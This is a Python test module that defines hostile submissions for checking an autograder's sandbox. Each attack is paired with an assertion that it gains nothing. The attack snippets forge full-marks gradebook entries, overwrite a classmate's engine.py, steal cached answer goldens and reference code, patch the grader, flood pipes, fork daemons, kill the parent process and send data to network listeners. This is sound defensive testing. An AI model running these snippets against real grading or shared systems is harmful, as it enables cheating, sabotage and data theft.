"""A class of hostile submissions: one attack each, on top of code whose honest score is known.

A Hostile is declarative. Its submission is `base` (the correct solutions, the
stubs, or the stubs' engine with the solutions' nn and train) with at most:
- `task`'s first solution block replaced by `attack` (an attack inside a case), or
- `attack` run when `module` is imported (`at` its top or bottom), and
- `helpers` (definitions only) appended to the module the attack is in;
`post` edits the files' bytes, and `kind` says how they are handed in (a folder,
one .py, a notebook, a zip...) or which whole-file attack it is (zip-bomb, huge...).
Its honest twin is the same submission without the attack: the attacked block
stubbed (`raise NotImplementedError`), or, for `honest="broken"`, the attacked
module replaced by one that fails to import; `honest="none"` means nothing in it
can be graded (a refused zip, an empty file). The test grades every twin and
asserts that no attack earns more than its twin, and, for a `confined` attack,
that every task the twin earns in full keeps its points.

Every hostile engine starts with PRELUDE, which names its process after the
hostile's marker (`hx<run><nn>`, also in the argv of every process an attack
starts), so that a process left behind is found and pinned on its author.
Text between @ signs (@MARKER@, @PORT@, ...) is filled in per run by `fill`.
"""
from __future__ import annotations

import io
import json
import re
import textwrap
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from autograder.tasks import TASK_MODULE

REPO = Path(__file__).resolve().parents[2]
SOLUTIONS = REPO / "solutions" / "micrograd"
EXERCISES = REPO / "exercises" / "micrograd"
MODULES = ("engine", "nn", "train")
RUBRIC = {"case_timeout": 1.0, "import_timeout": 2.0, "memory_mb": 512, "hidden_seed": 20240917,
          "submission_budget": 15.0}  # slow-burn needs ~90 s unbudgeted; 15 s leaves room on a loaded machine
HONEST = ("honest-1", "honest-2")
VICTIM = "zz-victim"                     # sorts after "sabotage": graded after it
BIG = 60 * 2**20                         # "huge": larger than every limit of the loader

PRELUDE = '''\
try:  # hostile corpus: this process, and every one it forks, is named after the marker
    import ctypes as _hx_ctypes
    _hx_ctypes.CDLL(None).prctl(15, b"@MARKER@", 0, 0, 0)  # PR_SET_NAME
except Exception:
    pass
'''

# What stops an attack, and the sandbox levels (runner/levels/) that have it. An attack that
# `needs` one is held to its strong property only under those levels; under the others the test
# asserts the weak one (never above full marks, the report is the grader's own) and says why.
HELD_BY: dict[str, frozenset[str]] = {
    "hidden-files": frozenset({"bubblewrap", "uid"}),   # world-readable files: the kit's reference/ (uid: chroot)
    "private-files": frozenset({"bubblewrap", "uid"}),  # the grader's own 0700 folders: ~/.cache
    "no-network": frozenset({"bubblewrap", "uid"}),     # uid: its seccomp filter refuses sockets
    "other-uid": frozenset({"bubblewrap", "uid"}),      # other submissions, the output folder, the grader
    "installed-files": frozenset({"bubblewrap", "uid"}),  # packages beyond the allowed ones, as files
    "classmates": frozenset({"bubblewrap", "uid"}),     # another child's copy, /tmp, /dev/shm, SysV IPC
}
LACKS = {  # what a level without it lets the child do
    "hidden-files": "lets the child read the kit's world-readable files",
    "private-files": "lets the child read the grader's private files",
    "no-network": "leaves the network open to the child",
    "other-uid": "runs the child as the grader's own user, in its PID space",
    "installed-files": "leaves the grader's installed packages on disk where the child can read them",
    "classmates": "lets one child reach another's copy, files and IPC",
}

SLEEPER = '[sys.executable, "-c", "import time; time.sleep(1000)", "@MARKER@"]'


@dataclass(frozen=True)
class Tokens:
    """What differs per run: the marker prefix, the test's listeners, the victim's secret."""
    run: str                    # 6 hex digits
    port: int                   # a listener on 127.0.0.1
    ext_host: str = ""          # this machine's non-loopback address ("" if none)
    ext_port: int = 0           # a listener there

    def marker(self, index: int) -> str:
        return f"hx{self.run}{index:02d}"

    @property
    def victim(self) -> str:
        return f"victim-{self.run}"


@dataclass(frozen=True)
class Hostile:
    id: str                                     # its file or folder name in the class
    tries: str                                  # what it tries
    holds: str                                  # what must hold
    task: str | None = None                     # the task whose first solution block `attack` replaces
    attack: str = ""
    module: str | None = None                   # import-time attack: in this module ...
    at: str = "bottom"                          # ... at its "top" (after PRELUDE) or "bottom"
    helpers: str = ""                           # definitions, appended to the attacked module
    base: str = "solutions"                     # solutions | exercises | stub-engine
    kind: str = "folder"                        # folder | single | notebook | zip-slip | zip-bomb | ...
    honest: str = "stub"                        # stub | broken | same | none: what its twin is
    confined: bool = True                       # the tasks its twin earns in full keep their points
    needs: str = ""                             # a key of HELD_BY: only those sandbox levels can stop it
    post: Callable[[dict[str, bytes]], None] | None = field(default=None, compare=False)
    # kind="made": the whole hand-in written by its own function (files, class folder, id) -> its path
    make: Callable[[dict[str, bytes], Path, str], Path] | None = field(default=None, compare=False)

    @property
    def home(self) -> str:
        """The module the attack lives in."""
        return self.module or (TASK_MODULE[self.task] if self.task else "engine")


# ---- helpers the attacks paste in ---------------------------------------------------------

ANCESTORS = '''
def _hx_ancestors():
    """(pid, argv, cwd, environment) of every ancestor process this one can read."""
    import os
    found, pid = [], os.getppid()
    for _ in range(32):
        if pid <= 1:
            break
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode("utf-8", "replace") for a in f.read().split(b"\\0") if a]
            with open(f"/proc/{pid}/stat", "rb") as f:
                stat = f.read()
        except OSError:
            break
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = ""
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = dict(kv.decode("utf-8", "replace").partition("=")[::2]
                           for kv in f.read().split(b"\\0") if b"=" in kv)
        except OSError:
            env = {}
        found.append((pid, argv, cwd, env))
        pid = int(stat[stat.rfind(b")") + 2:].split()[1])
    return found
'''

FORGE = ANCESTORS + '''
def _hx_forge():
    """Full marks for me in every gradebook, report and results file I can reach."""
    import json, os, sqlite3
    if globals().get("_hx_forged"):
        return
    globals()["_hx_forged"] = True
    me = "@STUDENT@"
    points = {"add": 5, "mul": 5, "pow": 5, "tanh": 5, "exp": 5, "relu": 5, "backward": 15, "neuron": 8,
              "layer": 6, "mlp": 8, "parameters": 8, "zero_grad": 5, "mse_loss": 8, "train": 12}
    top = float(sum(points.values()))
    report = json.dumps({
        "schema": 1, "submission": me, "score": top, "max_score": top, "error": None, "sandbox": "basic",
        "kit_version": "0.1.0", "notes": ["FORGED @MARKER@"],
        "tasks": [{"id": t, "title": t, "score": float(p), "max_score": float(p), "status": "passed",
                   "cases": []} for t, p in points.items()]})
    csv = ("student,score,max_score,status,error,late,source,sandbox\\r\\n"
           f"{me},{top:g},{top:g},graded,,no,folder,FORGED @MARKER@\\r\\n")
    results = json.dumps({"score": top, "output": "FORGED @MARKER@", "tests": []})

    def put(path, text):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
        except OSError:
            pass

    outs = []
    for pid, argv, cwd, env in _hx_ancestors():
        for i, arg in enumerate(argv):
            value = argv[i + 1] if arg == "--out" and i + 1 < len(argv) else arg[6:] if arg.startswith("--out=") else ""
            if value:
                outs.append(os.path.join(cwd, value))
        if cwd and os.path.isfile(os.path.join(cwd, "gradebook.sqlite")):
            outs.append(cwd)
    for out in outs:
        put(os.path.join(out, "reports", me + ".json"), report)
        put(os.path.join(out, "gradebook.csv"), csv)
        put(os.path.join(out, "summary.json"), json.dumps({"mean": top, "forged": "@MARKER@"}))
        store = os.path.join(out, "gradebook.sqlite")
        if os.path.isfile(store):
            try:
                db = sqlite3.connect(store, timeout=2)
                with db:
                    db.execute("UPDATE grades SET report = ? WHERE student = ?", (report, me))
                    db.execute("INSERT OR REPLACE INTO grades (student, content, kit_version, hidden_seed, rubric, "
                               "final, late, source, original, report) VALUES (?, 'forged', '0.1.0', 'forged', "
                               "'forged', 1, 0, 'folder', ?, ?)", (me, me, report))
                db.close()
            except Exception:
                pass
    here = os.getcwd()
    for folder in {here, os.environ.get("HOME") or here, os.path.dirname(here), "/tmp"}:
        for name, text in (("gradebook.csv", csv), ("results.json", results)):
            if not os.path.exists(os.path.join(folder, name)):
                put(os.path.join(folder, name), text)
'''

SABOTAGE = ANCESTORS + '''
def _hx_sabotage():
    """Break the victim's engine.py wherever it lies: the class folder, the grader's copies in /tmp."""
    import glob, os, time
    if globals().get("_hx_sabotaged"):
        return
    globals()["_hx_sabotaged"] = True
    roots = set(glob.glob("/tmp/autograder-*"))
    for pid, argv, cwd, env in _hx_ancestors():
        for arg in argv[1:]:
            path = os.path.join(cwd, arg) if cwd else arg
            if os.path.isdir(path) and os.path.realpath(path) != "/":
                roots.add(path)
    stop = time.monotonic() + 0.5
    for root in sorted(roots):
        base = root.rstrip("/").count("/")
        for folder, dirs, files in os.walk(root):
            if folder.count("/") - base >= 4 or time.monotonic() > stop:
                dirs[:] = []
            if "engine.py" not in files:
                continue
            path = os.path.join(folder, "engine.py")
            try:
                with open(path, encoding="utf-8", errors="replace") as f:
                    if "@VICTIM@" not in f.read():
                        continue
                with open(path, "w") as f:
                    f.write('raise SystemExit("sabotaged by @MARKER@")\\n')
            except OSError:
                pass
'''

STEAL_GOLDENS = ANCESTORS + '''
def _hx_job_case_ids():
    import sys
    frame = sys._getframe()
    while frame is not None:
        job = frame.f_locals.get("job")
        if isinstance(job, dict) and "cases" in job:
            return {c["id"] for c in job["cases"]}
        frame = frame.f_back
    return set()


def _hx_steal_goldens():
    """The goldens of this job's cases, from the grader's cache, wherever it is."""
    import glob, json, os
    folders = {"/root/.cache/backprop-kit", os.path.expanduser("~/.cache/backprop-kit")}
    folders.update(glob.glob("/home/*/.cache/backprop-kit"))
    for pid, argv, cwd, env in _hx_ancestors():
        if env.get("AUTOGRADER_CACHE"):
            folders.add(env["AUTOGRADER_CACHE"])
        if env.get("XDG_CACHE_HOME"):
            folders.add(os.path.join(env["XDG_CACHE_HOME"], "backprop-kit"))
        if env.get("HOME"):
            folders.add(os.path.join(env["HOME"], ".cache", "backprop-kit"))
    wanted, best = _hx_job_case_ids(), {}
    files = [p for d in folders for p in glob.glob(os.path.join(d, "goldens-*.json"))]
    for path in sorted(files, key=lambda p: os.path.getmtime(p)):
        try:
            with open(path) as f:
                goldens = json.load(f).get("goldens", {})
        except (OSError, ValueError):
            continue
        if wanted and wanted <= set(goldens):
            best = goldens  # the newest file holding every case of this job
    return best
'''

FIND_REFERENCE = ANCESTORS + '''
def _hx_find_reference():
    """The folder holding the kit's reference/ package: up from here, from Python, from /work."""
    import glob, os, sys
    starts = [os.path.dirname(os.path.abspath(__file__)), os.getcwd(), sys.executable,
              os.path.realpath(sys.executable), os.path.abspath(sys.argv[0] or "."), "/work"]
    for pid, argv, cwd, env in _hx_ancestors():
        starts += [cwd] + [a for a in argv if a.startswith("/")]
    for start in starts:
        folder = start
        while folder:
            if os.path.isfile(os.path.join(folder, "reference", "engine.py")):
                return folder
            parent = os.path.dirname(folder)
            folder = parent if parent != folder else ""
    found = glob.glob("/work/*/reference/engine.py") + glob.glob("/work/*/*/reference/engine.py")
    return os.path.dirname(os.path.dirname(found[0])) if found else None
'''

CASE_IDS = '''
def _hx_case_ids():
    import sys
    frame = sys._getframe()
    while frame is not None:
        job = frame.f_locals.get("job")
        if isinstance(job, dict) and "cases" in job:
            return [c["id"] for c in job["cases"]]
        frame = frame.f_back
    return []


def _hx_fake_lines():
    """Result lines claiming success for every case, on every fd there is, and printed."""
    import json, os, sys
    lines = [json.dumps({"import": {"engine": None, "nn": None, "train": None}, "missing_files": []})]
    for case in _hx_case_ids():
        obs = {"out": 4.25, "a.grad": 4.25, "b.grad": 4.25, "leaf_grads": [4.25], "loss": 4.25}
        lines.append(json.dumps({"case": case, "status": "ok", "obs": obs, "output": "", "passed": True,
                                 "score": 100}))
    data = ("\\n" + "\\n".join(lines) + "\\n").encode() + b"\\xff\\xfe{not json\\n" + b"9" * 2_000_000 + b"\\n"
    for fd in range(256):
        try:
            os.write(fd, data)
        except OSError:
            pass
    print("\\n".join(lines))
    try:
        sys.__stdout__.write("\\n".join(lines) + "\\n")
        sys.__stdout__.flush()
    except Exception:
        pass
'''

LIARS = '''
class _HxLiar:
    """Claims to be a float, equal to anything, whose value is whatever you want."""
    @property
    def __class__(self):
        return float
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
    def __float__(self):
        return 1.0
    def __repr__(self):
        return "1.0"


class _HxLiarFloat(float):
    """A float (12345.0) that says it is equal to anything and is 1.0."""
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
    def __float__(self):
        return 1.0
    def __repr__(self):
        return "1.0"
'''

RAISER = '''
class _HxRaiser:
    """Every look at it raises."""
    def __getattribute__(self, name):
        raise RuntimeError("no looking")
    def __repr__(self):
        raise RuntimeError("no repr")
    def __float__(self):
        raise RuntimeError("no float")
    def __eq__(self, other):
        raise RuntimeError("no eq")
    __hash__ = None
'''

HANG = '''
class _HxHang:
    """Looking at it never ends."""
    def __repr__(self):
        while True:
            pass
    def __float__(self):
        while True:
            pass
'''

IGNORE_SIGNALS = '''\
import signal
for _hx_signal in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGXCPU):
    signal.signal(_hx_signal, signal.SIG_IGN)
'''


# ---- issue 19 (1, 6): installed packages as files; classmates' copies, files and IPC ----------

UNHOOK = ANCESTORS + '''
def _hx_unhook():
    """The kit's import hooks off sys.meta_path; every folder of installed packages to be seen on
    sys.path: the interpreter's, Debian's, /usr/local's, and the grader's venv (from its argv)."""
    import glob, os, sys
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__module__.rpartition(".")[2] != "hooks"]
    prefixes = {"/usr", "/usr/local", sys.base_prefix, sys.prefix, os.path.dirname(os.path.dirname(sys.executable))}
    for pid, argv, cwd, env in _hx_ancestors():
        if argv and argv[0].startswith("/"):
            prefixes.add(os.path.dirname(os.path.dirname(argv[0])))
    found = []
    for prefix in prefixes:
        for pattern in ("lib*/python3*/site-packages", "lib*/python3*/dist-packages", "lib/python3/dist-packages"):
            found += glob.glob(os.path.join(prefix, pattern))
    sys.path.extend(p for p in found if p not in sys.path)
    return found
'''

BEYOND = ("yaml", "pygments", "jinja2", "IPython", "scipy", "sympy", "torch")  # quick to import first: case 1 s

DROP = '''
def _hx_drop():
    """This engine's source, left for a classmate in /tmp, /dev/shm and a SysV shared memory segment."""
    import ctypes, os
    data = open(__file__, "rb").read()
    for folder in ("/tmp", "/dev/shm", "/var/tmp"):
        try:
            path = os.path.join(folder, "hx-drop-@RUN@")
            with open(path, "wb") as f:
                f.write(data)
            os.chmod(path, 0o666)
        except OSError:
            pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        shm = libc.shmget(0x68780000 + int("@RUN@", 16) % 0xFFFF, 1 << 16, 0o1666)  # IPC_CREAT | 0666
        if shm >= 0:
            at = libc.shmat(shm, None, 0)
            if at not in (None, ctypes.c_void_p(-1).value):
                ctypes.memmove(at, len(data).to_bytes(4, "little") + data, min(len(data) + 4, 1 << 16))
    except Exception:
        pass
'''

PICK_UP = '''
def _hx_pick_up(wait):
    """A classmate's engine source: its copy being graded (another child's folder), or what it dropped
    in /tmp, /dev/shm or SysV shared memory; polled for `wait` seconds. None if nothing is reachable."""
    import ctypes, glob, os, time
    end = time.monotonic() + wait
    while True:
        paths = ["/tmp/hx-drop-@RUN@", "/dev/shm/hx-drop-@RUN@", "/var/tmp/hx-drop-@RUN@"]
        paths += glob.glob("/tmp/*/submission/micrograd/engine.py") + glob.glob("/tmp/*/*/micrograd/engine.py")
        paths += glob.glob("/proc/[0-9]*/cwd/../submission/micrograd/engine.py")
        for path in paths:
            try:
                with open(path, encoding="utf-8") as f:
                    text = f.read()
            except (OSError, ValueError):
                continue
            if "hx-giver-" + "@RUN@" in text and os.path.realpath(path) != os.path.realpath(__file__):
                return text
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmat.restype = ctypes.c_void_p
            shm = libc.shmget(0x68780000 + int("@RUN@", 16) % 0xFFFF, 0, 0)
            if shm >= 0:
                at = libc.shmat(shm, None, 0o10000)  # SHM_RDONLY
                if at not in (None, ctypes.c_void_p(-1).value):
                    size = int.from_bytes(ctypes.string_at(at, 4), "little")
                    if 0 < size < 1 << 16:
                        return ctypes.string_at(at + 4, size).decode("utf-8", "replace")
        except Exception:
            pass
        if time.monotonic() > end:
            return None
        time.sleep(0.05)


def _hx_take(wait):
    """Value from a classmate's engine, if one is reachable (its own drop code does not run again)."""
    text = _hx_pick_up(wait)
    if text is None:
        return None
    space = {"__name__": "hx_classmate", "__file__": "classmate.py"}
    exec(compile(text, "classmate.py", "exec"), space)
    return space.get("Value")
'''


# ---- loading attacks: whole files that are not plain packages ------------------------------

def _empty_train(files: dict[str, bytes]) -> None:
    files["train.py"] = b""


def _latin1_nn(files: dict[str, bytes]) -> None:
    head, _, rest = files["nn.py"].partition(b"\n")
    files["nn.py"] = head + b"\n# caf\xe9 cr\xe8me: saved as Latin-1\n" + rest


def _huge_extra(files: dict[str, bytes]) -> None:
    files["weights.py"] = b"WEIGHTS = 0  # " + b"0" * BIG + b"\n"


H = Hostile
HOSTILES: tuple[Hostile, ...] = (
    # ---- exits ---------------------------------------------------------------------------
    H("exit-sys-import", "sys.exit() while train.py is imported",
      "train.py counts as not importable; engine and nn tasks keep their points",
      module="train", attack="import sys\nsys.exit('goodbye from train.py')", honest="broken"),
    H("exit-os-import", "os._exit(0) while engine.py is imported (before any result line)",
      "no points (nothing was graded), a row with the reason", module="engine", at="top",
      attack="import os\nos._exit(0)", honest="broken", confined=False),
    H("exit-sys-case", "sys.exit(3) inside add's _backward", "add loses its cases, nothing else",
      task="add", attack="import sys\nsys.exit(3)"),
    H("exit-os-case", "os._exit(0) inside mul's _backward: the child dies every mul case",
      "mul loses its cases; a fresh child runs the rest", task="mul", attack="import os\nos._exit(0)"),
    # ---- endless loops and sleeps --------------------------------------------------------
    H("loop-import", "while True: pass when engine.py is imported",
      "the import times out (2 s); no points; killed", module="engine", at="top",
      attack="while True:\n    pass", honest="broken", confined=False),
    H("loop-import-noterm", "ignores SIGTERM/SIGINT/SIGHUP/SIGXCPU, then loops when nn.py is imported",
      "the import times out; SIGKILL ends it; no process left", module="nn", at="top",
      attack=IGNORE_SIGNALS + "while True:\n    pass", honest="broken", confined=False),
    H("sleep-import", "time.sleep(10000) when train.py is imported", "the import times out; no process left",
      module="train", at="top", attack="import time\ntime.sleep(10_000)", honest="broken", confined=False),
    H("loop-case", "while True: pass inside tanh's _backward",
      "tanh's cases time out (then are skipped), the other tasks keep their points", task="tanh",
      attack="while True:\n    pass"),
    H("loop-case-noterm", "ignores every catchable signal, then loops inside exp's _backward",
      "exp's cases time out; SIGKILL ends it; the rest keep their points", task="exp",
      attack=IGNORE_SIGNALS + "while True:\n    pass"),
    H("sleep-case", "time.sleep(10000) inside relu's _backward", "relu times out; nothing else lost",
      task="relu", attack="import time\ntime.sleep(10_000)"),
    H("slow-burn", "the first Value of every case sleeps just under case_timeout (0.9 of 1 s), so no case "
      "times out and a class's batch would wait minutes", "the submission's time budget (15 s) ends it: the rest "
      "time out; no more than its honest twin", module="engine", at="bottom", honest="same", confined=False,
      attack="""import time as _hx_t
_hx_quiet = [0.0]
_hx_init = Value.__init__
def _hx_slow_init(self, *a, **k):
    if _hx_t.monotonic() > _hx_quiet[0]:
        _hx_t.sleep(0.9)
        _hx_quiet[0] = _hx_t.monotonic() + 0.02
    _hx_init(self, *a, **k)
Value.__init__ = _hx_slow_init"""),
    H("flood-pipe", "writes 4,096 garbage lines to every fd 3..255 (the result pipe among them) in add's "
      "_backward, again and again for 30 s", "add fails as a flood, fast; the parent reads a bounded amount; "
      "the rest keep their points", task="add", attack="""import os, time
_hx_lines = b'{"garbage": true}\\n' * 4096
_hx_end = time.monotonic() + 30
while time.monotonic() < _hx_end:
    for _hx_fd in range(3, 256):
        try:
            os.write(_hx_fd, _hx_lines)
        except OSError:
            pass"""),
    # ---- memory --------------------------------------------------------------------------
    H("memory-bomb", "fills memory (32 MiB strings) inside pow's _backward", "pow errors (memory limit), the rest keep "
      "their points", task="pow", attack="hog = []\nwhile True:\n    hog.append(b'x' * (32 << 20))"),
    # ---- processes left behind -----------------------------------------------------------
    H("fork-popen", "subprocess.Popen a sleeper (python, and bash 'exec -a MARKER sleep 1000') from Neuron.__call__",
      "no sleeper outlives the batch", task="neuron",
      attack=f"""import subprocess, sys
if not globals().get("_hx_spawned"):
    globals()["_hx_spawned"] = True
    subprocess.Popen({SLEEPER}, stdin=subprocess.DEVNULL)
    subprocess.Popen(["bash", "-c", "exec -a @MARKER@-sleep sleep 1000"], stdin=subprocess.DEVNULL)"""),
    H("fork-os", "os.fork() in Layer.__call__; the fork execs a sleeper", "no process outlives the batch",
      task="layer", attack=f"""import os, sys
if not globals().get("_hx_forked"):
    globals()["_hx_forked"] = True
    if os.fork() == 0:
        try:
            os.execv(sys.executable, {SLEEPER})
        finally:
            os._exit(0)"""),
    H("fork-daemon", "double fork + setsid (a daemon in a session of its own, which starts another in a "
      "session of its own) in Module.zero_grad",
      "no daemon outlives the batch, at any level (the grading process is their subreaper)", task="zero_grad",
      attack=f"""import os, sys
if not globals().get("_hx_daemon"):
    globals()["_hx_daemon"] = True
    first = os.fork()
    if first == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.chdir("/")
                if os.fork() == 0:
                    os.setsid()
                    os.execv(sys.executable, {SLEEPER})
                os.execv(sys.executable, {SLEEPER})
        finally:
            os._exit(0)
    os.waitpid(first, 0)"""),
    # ---- output floods -------------------------------------------------------------------
    H("flood-stdout", "writes 200 MiB to the real stdout (fd 1) and prints 10 MB, in mse_loss",
      "the parent drains and caps it; mse_loss loses, nothing else", task="mse_loss",
      attack="""import os
if not globals().get("_hx_flooded"):
    globals()["_hx_flooded"] = True
    chunk = b"flood " * 174763
    for _ in range(200):
        os.write(1, chunk)
print("x" * 10_000_000)"""),
    H("flood-stderr-import", "writes 200 MiB to the real stderr (fd 2) when nn.py is imported, then is correct",
      "the import still finishes in time: every task keeps its points", module="nn", at="top", honest="same",
      attack="""import os as _hx_os
_hx_chunk = b"flood " * 174763
for _ in range(200):
    _hx_os.write(2, _hx_chunk)"""),
    H("flood-result-fd", "1 MB garbage lines on the grader's own result fd (63), without pause for 10 s, in relu",
      "relu times out at its deadline (the reader is not starved), the parent's memory stays bounded; "
      "nothing else lost", task="relu", attack="""import os, time
end = time.monotonic() + 10
line = b"x" * 999_000 + b"\\n"
while time.monotonic() < end:
    try:
        os.write(63, line)
    except OSError:
        break"""),
    # ---- forged results ------------------------------------------------------------------
    H("forge-outputs", "writes full-marks reports/<id>.json, gradebook.csv, summary.json, sqlite rows and "
      "results.json into the batch's --out (found through /proc of its ancestors), its cwd, its parents and /tmp",
      "its gradebook row and report are what the grader computed; no output carries the forgery",
      task="backward", attack="_hx_forge()", helpers=FORGE, needs="other-uid"),
    # ---- monkeypatching the grader in the child -----------------------------------------
    H("patch-programs", "stubs + replaces every case program, find_program and observe.to_json in the child",
      "0 points: observations are compared in the parent", base="exercises", module="engine", honest="same",
      confined=False, attack="""import sys as _hx_sys


def _hx_fake(api, params):
    return {"out": 0.123456789, "a.grad": 0.123456789, "b.grad": 0.123456789, "root.grad": 0.123456789,
            "leaf_grads": [0.123456789] * 4, "node_grads": [0.123456789] * 4, "losses": [0.123456789] * 4}


for _hx_name, _hx_module in list(_hx_sys.modules.items()):
    if "programs" in _hx_name.split("."):  # the child's case programs, under whatever package
        for _hx_attr, _hx_value in list(vars(_hx_module).items()):
            if callable(_hx_value) and not _hx_attr.startswith("_"):
                setattr(_hx_module, _hx_attr, _hx_fake)
for _hx_name in [n for n in _hx_sys.modules if n.rpartition(".")[2] == "observe"]:
    _hx_sys.modules[_hx_name].to_json = lambda value, depth=0: 0.123456789
_hx_sys.modules["__main__"].find_program = lambda name, programs: _hx_fake"""),
    H("patch-json-oswrite", "stubs + json.dumps and os.write patched so that every case's line claims "
      "'passed', score 100", "0 points: the parent only compares numbers it parsed",
      base="exercises", module="engine", honest="same", confined=False, attack="""import json as _hx_json, os as _hx_os
_hx_dumps, _hx_write = _hx_json.dumps, _hx_os.write


def _hx_forged_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "case" in obj:
        obj = {"case": obj["case"], "status": "ok", "obs": {"passed": True, "score": 100.0}, "passed": True,
               "score": 100.0, "output": ""}
    return _hx_dumps(obj, *args, **kwargs)


def _hx_forged_write(fd, data):
    _hx_write(fd, b'\\n{"case": "*", "status": "ok", "passed": true, "score": 100}\\n')
    return _hx_write(fd, data)


_hx_json.dumps = _hx_forged_dumps
_hx_os.write = _hx_forged_write"""),
    H("patch-isclose", "a wrong tanh derivative, with math.isclose / math.isfinite patched to say True",
      "tanh loses: the comparison runs in the parent", task="tanh", module="engine",
      attack="self.grad += 0.3141 * out.grad", helpers="""
import math as _hx_math
_hx_math.isclose = lambda *args, **kwargs: True
_hx_math.isfinite = lambda x: True
"""),
    # ---- the protocol and the fds --------------------------------------------------------
    H("fake-protocol", "JSON result lines claiming success for every case id (found in the grader's frames), "
      "garbage and a 2 MB line, written to every fd 0..255, stdout and print, in MLP.__init__",
      "mlp loses; lines for other cases are ignored; the rest keep their points", task="mlp",
      attack="_hx_fake_lines()", helpers=CASE_IDS),
    H("close-fds", "os.closerange(0, 256) in Neuron.parameters(): the result pipe is gone",
      "parameters loses; a fresh child runs the rest", task="parameters",
      attack="import os\nos.closerange(0, 256)"),
    H("kill-parent", "os.kill(os.getppid(), SIGKILL) in add's _backward, then lingers (sleep 1000)",
      "a row, no more than its honest score, no process left; where the grader is out of its reach (bubblewrap, "
      "uid) only add is lost",
      task="add", attack="import os, time\nos.kill(os.getppid(), 9)\ntime.sleep(1000)",
      needs="other-uid"),
    H("kill-pgroup", "os.killpg(0, SIGKILL) in mul's _backward", "mul loses; nothing else", task="mul",
      attack="import os\nos.killpg(0, 9)"),
    # ---- reading what the child must never see ------------------------------------------
    H("read-reference", "a stub engine that finds reference/engine.py (from __file__, Python, /proc, /work) "
      "and uses its Value", "under bubblewrap and uid (a chroot) reference/ is not there: no engine points (its twin's score)",
      base="stub-engine", module="engine", honest="same", helpers=FIND_REFERENCE, needs="hidden-files",
      attack="""_hx_root = _hx_find_reference()
if _hx_root:
    import sys as _hx_sys
    _hx_sys.path.insert(0, _hx_root)
    try:
        from reference.engine import Value
    except Exception:
        pass"""),
    H("read-goldens", "stubs that find the golden cache (~/.cache, $AUTOGRADER_CACHE of ancestors) and answer "
      "every case from it", "where the grader's cache is out of reach (bubblewrap, uid): 0 points",
      base="exercises", module="engine", honest="same", helpers=STEAL_GOLDENS, needs="private-files",
      confined=False, attack="""_HX_GOLDENS = _hx_steal_goldens()
if _HX_GOLDENS:
    import sys as _hx_sys
    _hx_main = _hx_sys.modules["__main__"]
    _hx_real_run_case = _hx_main.run_case

    def _hx_run_case(case, *args, **kwargs):
        if case["id"] in _HX_GOLDENS:
            return {"case": case["id"], "status": "ok", "obs": _HX_GOLDENS[case["id"]], "output": ""}
        return _hx_real_run_case(case, *args, **kwargs)

    _hx_main.run_case = _hx_run_case"""),
    # ---- other submissions, the network ---------------------------------------------------
    H("symlink-reference", "a stub engine in a cloned repo with micrograd/oracle -> the kit's reference/ and "
      "micrograd/helper.py -> reference/engine.py (symlinks), importing Value from them",
      "the trusted loader follows no link: no engine points (its twin's score)", kind="symlinks",
      base="stub-engine", module="engine", honest="same", attack="""import importlib.util as _hx_util, os as _hx_os
for _hx_file in ("oracle/engine.py", "helper.py"):
    _hx_path = _hx_os.path.join(_hx_os.path.dirname(__file__), _hx_file)
    if _hx_os.path.isfile(_hx_path):
        _hx_spec = _hx_util.spec_from_file_location("hx_oracle", _hx_path)
        _hx_oracle = _hx_util.module_from_spec(_hx_spec)
        _hx_spec.loader.exec_module(_hx_oracle)
        Value = _hx_oracle.Value
        break"""),
    H("sabotage", "overwrites the victim's engine.py in the class folder (found through /proc) and in the "
      "grader's copies under /tmp, in train()", "the victim keeps full marks (bubblewrap, uid); train loses",
      task="train", attack="_hx_sabotage()", helpers=SABOTAGE, needs="other-uid"),
    H("network", "TCP to a test-owned listener on 127.0.0.1 and on this machine's external address, in mse_loss",
      "under bubblewrap and uid (no socket) no connection reaches a listener; mse_loss loses", task="mse_loss",
      needs="no-network", attack="""import socket
for host, port in (("127.0.0.1", @PORT@), ("@EXT_HOST@", @EXT_PORT@)):
    if host and port:
        try:
            s = socket.create_connection((host, port), timeout=0.3)
            s.sendall(b"LEAK @MARKER@\\n")
            s.close()
        except OSError:
            pass"""),
    # ---- issue 19 (1, 6): installed packages as files; classmates' copies, files and IPC -----
    H("site-packages", "add's _backward takes the kit's hooks off sys.meta_path, puts every site-packages and "
      "dist-packages it can find (Python's, Debian's, /usr/local's, the grader's venv from /proc) on sys.path "
      "and is right only if sympy, jinja2, IPython, scipy, yaml, pygments or torch then imports",
      "only the standard library and the allowed packages exist in the sandbox as files: add loses",
      task="add", helpers=UNHOOK, needs="installed-files", attack=f"""_hx_unhook()
for _hx_name in {BEYOND!r}:
    try:
        __import__(_hx_name)
        break
    except Exception:
        pass
else:
    raise NotImplementedError("nothing beyond the standard library")
self.grad += out.grad
other.grad += out.grad"""),
    H("site-packages-file", "mul's _backward loads a package's __init__.py straight from its file "
      "(spec_from_file_location, no sys.path, no hook asked) from any site-packages or dist-packages it finds",
      "no such file is there to load: mul loses", task="mul", helpers=UNHOOK, needs="installed-files",
      attack=f"""import importlib.util as _hx_util, os as _hx_os
_hx_loaded = False
for _hx_dir in _hx_unhook():
    for _hx_name in {BEYOND!r}:
        _hx_init = _hx_os.path.join(_hx_dir, _hx_name, "__init__.py")
        if _hx_loaded or not _hx_os.path.isfile(_hx_init):
            continue
        try:
            import sys as _hx_sys
            _hx_spec = _hx_util.spec_from_file_location(_hx_name, _hx_init)
            _hx_sys.modules[_hx_name] = _hx_module = _hx_util.module_from_spec(_hx_spec)
            _hx_spec.loader.exec_module(_hx_module)
